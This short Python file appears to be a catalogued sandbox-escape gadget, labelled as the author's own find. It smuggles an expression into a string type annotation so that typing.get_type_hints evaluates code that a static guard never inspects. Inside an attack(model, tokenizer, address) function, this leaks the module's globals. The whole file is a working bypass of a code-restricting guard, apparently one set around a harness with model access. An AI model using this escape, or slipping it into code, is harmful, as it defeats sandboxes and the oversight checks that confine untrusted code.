"""Class: module gadget. Source: own find. Escape: get_type_hints evaluates text, which no guard has
seen."""

import typing

seen = []


def helper():
    pass


def hinted(x: "seen.append(helper.__globals__) or int"):
    pass


def attack(model, tokenizer, address):
    typing.get_type_hints(hinted)
    return seen
